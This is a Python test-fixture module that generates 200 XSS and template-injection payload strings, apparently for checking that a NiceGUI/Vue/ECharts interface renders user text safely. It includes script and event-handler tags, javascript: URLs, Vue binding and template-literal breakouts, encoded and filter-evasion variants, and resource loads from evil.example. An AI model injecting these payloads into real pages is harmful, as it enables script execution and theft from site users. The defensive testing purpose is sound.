"""Two hundred texts that want to be markup, a script, a template, an address or a property.

Each calls `pwn()` or asks for something at evil.example when a page takes it for more than text. The ways are those of
the OWASP filter evasion cheat sheet and of what NiceGUI, Vue and ECharts are known to interpret; the texts are ours.
"""

from __future__ import annotations

from itertools import product

ELEMENTS = (
    "<script>{js}</script>",
    "</script><script>{js}</script>",
    "<img src=x onerror={js}>",
    "<img src=x onerror='{js}'",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<body onload={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<details open ontoggle={js}>",
    "<video src=x onerror={js}>",
    "<audio src=x onerror={js}>",
    "<video><source onerror={js}></video>",
    "<marquee onstart={js}>",
    "<iframe src='javascript:{js}'></iframe>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<object data='javascript:{js}'></object>",
    "<embed src='javascript:{js}'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<style>@import 'http://evil.example/x.css';</style>{js}",
    "<link rel=stylesheet href=http://evil.example/x.css>{js}",
    "<img src=http://evil.example/{js}.png>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<base href=http://evil.example/>{js}",
    "<form action=javascript:{js}><button autofocus>x",
    "<a href='javascript:{js}'>x</a>",
    '"><img src=x onerror={js}>',
    "'><img src=x onerror={js}>",
    "`><img src=x onerror={js}>",
    "--><img src=x onerror={js}>",
    "]]><img src=x onerror={js}>",
    "</textarea><img src=x onerror={js}>",
    "</title><img src=x onerror={js}>",
    "</style><img src=x onerror={js}>",
    "<x onpointerenter={js} style=position:fixed;inset:0>x",
    "<!--<img src='--><img src=x onerror={js}>'>",
)
TEMPLATES = (
    "{{{{constructor.constructor('{js}')()}}}}",
    "{{{{_c.constructor('{js}')()}}}}",
    "${{{js}}}",
    "`+{js}+`",
    "'+{js}+'",
    '"+{js}+"',
    "\\`;{js};//",
    "';{js};//",
    '";{js};//',
    ":onclick={js} onclick={js}",
    'title="x" :title="{js}" v-html="{js}"',
    "v-on:click={js} @click={js}",
    "=HYPERLINK('javascript:{js}')",
    "javascript:{js}",
    "data:text/html,<script>{js}</script>",
    "&lt;img src=x onerror={js}&gt;",
    "&#60;img src=x onerror={js}&#62;",
    "\\u003cimg src=x onerror={js}\\u003e",
    "%3Cimg src=x onerror={js}%3E",
    "{{a|0}} {{b0}} <b onmouseover={js}>",
)
CALLS = ("pwn()", "top.pwn()", "window['pwn']()")


def _made() -> list[str]:
    made = [shape.format(js=call) for shape, call in product((*ELEMENTS, *TEMPLATES), CALLS)]
    # Twenty more, in capitals and with what filters stumble over.
    made += [shape.format(js="pwn()").replace("<", "<\t").replace("=", "=\n") for shape in ELEMENTS[:10]]
    tags = [shape for shape in ELEMENTS if "script" in shape or "img" in shape]
    made += [shape.replace("script", "ScRiPt").replace("img", "IMG").format(js="pwn()") for shape in tags[:10]]
    return made


PAYLOADS = _made()
